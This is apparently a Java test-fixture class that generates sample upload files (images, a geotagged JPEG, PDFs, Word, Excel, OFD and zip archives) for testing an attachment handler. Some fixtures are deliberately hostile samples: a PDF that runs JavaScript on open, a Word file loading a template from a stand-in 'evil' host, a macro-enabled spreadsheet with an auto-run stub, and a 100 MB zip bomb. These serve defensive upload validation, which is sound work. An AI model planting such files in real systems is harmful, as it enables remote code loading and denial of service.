package org.weishishi.document.infrastructure.attachment;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDFont;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.dhatim.fastexcel.Workbook;

/** Files as people upload them, made when asked for. */
public final class SampleFiles {

    private static final String TYPES = "<Types><Override PartName=\"/a.xml\" ContentType=\"%s\"/></Types>";
    private static final String WORD =
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
    private static final String SHEET_WITH_MACROS = "application/vnd.ms-excel.sheet.macroEnabled.main+xml";

    private SampleFiles() {}

    /** A picture of that size. */
    public static byte[] picture(String format, int width, int height) {
        return made(out -> ImageIO.write(new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB), format, out));
    }

    /** A photograph held upright by a camera that knows where it stood: 22.5452 N 114.1788 E, turned by a quarter. */
    public static byte[] photograph() {
        byte[] plain = picture("jpeg", 400, 200);
        ByteBuffer tiff = ByteBuffer.allocate(256);
        tiff.put("MM".getBytes(StandardCharsets.US_ASCII)).putShort((short) 42).putInt(8);
        tiff.putShort((short) 2);
        entry(tiff, 0x0112, 3, 1, 6 << 16);
        entry(tiff, 0x8825, 4, 1, 38);
        tiff.putInt(0);
        tiff.putShort((short) 4);
        entry(tiff, 1, 2, 2, 'N' << 24);
        entry(tiff, 2, 5, 3, 92);
        entry(tiff, 3, 2, 2, 'E' << 24);
        entry(tiff, 4, 5, 3, 116);
        tiff.putInt(0);
        for (int part : new int[] {22, 1, 32, 1, 43, 1, 114, 1, 10, 1, 44, 1}) {
            tiff.putInt(part);
        }
        byte[] exif = Arrays.copyOf(tiff.array(), tiff.position());
        return made(out -> {
            out.write(plain, 0, 2);
            int length = 2 + 6 + exif.length;
            out.write(new byte[] {(byte) 0xff, (byte) 0xe1, (byte) (length >> 8), (byte) length});
            out.write("Exif\0\0".getBytes(StandardCharsets.US_ASCII));
            out.write(exif);
            out.write(plain, 2, plain.length - 2);
        });
    }

    private static void entry(ByteBuffer tiff, int tag, int type, int count, int value) {
        tiff.putShort((short) tag).putShort((short) type).putInt(count).putInt(value);
    }

    /** One empty page. */
    public static byte[] pdf() {
        return pdf(document -> {});
    }

    /** A page that runs a script when it is opened. */
    public static byte[] pdfWithScript() {
        return pdf(document -> document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)")));
    }

    /** A page that only its owner may change. */
    public static byte[] pdfWithPassword() {
        return pdf(document -> document.protect(new StandardProtectionPolicy("owner", "", new AccessPermission())));
    }

    private static byte[] pdf(Writing<PDDocument> and) {
        return made(out -> {
            try (PDDocument document = new PDDocument()) {
                document.addPage(new PDPage());
                and.write(document);
                document.save(out);
            }
        });
    }

    /** One page of text, written by that author. */
    public static byte[] pdfSaying(String text, String author) {
        return pdf(document -> {
            PDFont font = new PDType1Font(Standard14Fonts.FontName.HELVETICA);
            try (PDPageContentStream page = new PDPageContentStream(document, document.getPage(0))) {
                page.beginText();
                page.setFont(font, 12);
                page.newLineAtOffset(72, 700);
                page.showText(text);
                page.endText();
            }
            document.getDocumentInformation().setAuthor(author);
        });
    }

    /** A text document of one paragraph in several runs, as a word processor splits it, written by that author. */
    public static byte[] docxSaying(String author, String... runs) {
        StringBuilder body = new StringBuilder("<w:document xmlns:w=\"w\"><w:body><w:p>");
        for (String run : runs) {
            body.append("<w:r><w:t>").append(run).append("</w:t></w:r>");
        }
        return zip(
                "[Content_Types].xml",
                String.format(TYPES, WORD),
                "docProps/core.xml",
                "<cp xmlns:dc=\"d\"><dc:creator>" + author + "</dc:creator></cp>",
                "word/document.xml",
                body + "</w:p></w:body></w:document>");
    }

    /** A spreadsheet with that value in its first cell. */
    public static byte[] xlsxSaying(Object value) {
        return made(out -> {
            try (Workbook book = new Workbook(out, "test", "1.0")) {
                if (value instanceof Number number) {
                    book.newWorksheet("表").value(0, 0, number);
                } else {
                    book.newWorksheet("表").value(0, 0, value.toString());
                }
            }
        });
    }

    /** A text document of the parts it must have. */
    public static byte[] docx() {
        return zip("[Content_Types].xml", String.format(TYPES, WORD), "word/document.xml", "<w/>");
    }

    /** The same, with a template that is loaded from elsewhere. */
    public static byte[] docxWithTemplateFromElsewhere() {
        String relation = "<Relationship Type=\"http://x/attachedTemplate\" Target=\"http://evil/t.dotm\""
                + " TargetMode=\"External\"/>";
        return zip("[Content_Types].xml", String.format(TYPES, WORD), "word/_rels/settings.xml.rels", relation);
    }

    /** A spreadsheet of one cell. */
    public static byte[] xlsx() {
        return made(out -> {
            try (Workbook book = new Workbook(out, "test", "1.0")) {
                book.newWorksheet("表").value(0, 0, "提议");
            }
        });
    }

    /** A spreadsheet with macros, whatever its name. */
    public static byte[] xlsm() {
        return zip(
                "[Content_Types].xml", String.format(TYPES, SHEET_WITH_MACROS), "xl/vbaProject.bin", "Sub Auto_Open()");
    }

    /** A spreadsheet that unpacks to a hundred megabytes of blanks. */
    public static byte[] bomb() {
        return made(out -> {
            try (ZipOutputStream zip = new ZipOutputStream(out)) {
                zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
                byte[] blanks = new byte[1 << 20];
                for (int i = 0; i < 100; i++) {
                    zip.write(blanks);
                }
            }
        });
    }

    /** A Chinese layout file of the parts it must have. */
    public static byte[] ofd() {
        return zip("OFD.xml", "<ofd:OFD/>", "Doc_0/Document.xml", "<x/>");
    }

    /** An archive of these names and texts. */
    public static byte[] zip(String... namesAndTexts) {
        return made(out -> {
            try (ZipOutputStream zip = new ZipOutputStream(out)) {
                for (int i = 0; i < namesAndTexts.length; i += 2) {
                    zip.putNextEntry(new ZipEntry(namesAndTexts[i]));
                    zip.write(namesAndTexts[i + 1].getBytes(StandardCharsets.UTF_8));
                }
            }
        });
    }

    private static byte[] made(Writing<ByteArrayOutputStream> how) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            how.write(out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private interface Writing<T> {
        void write(T to) throws IOException;
    }
}
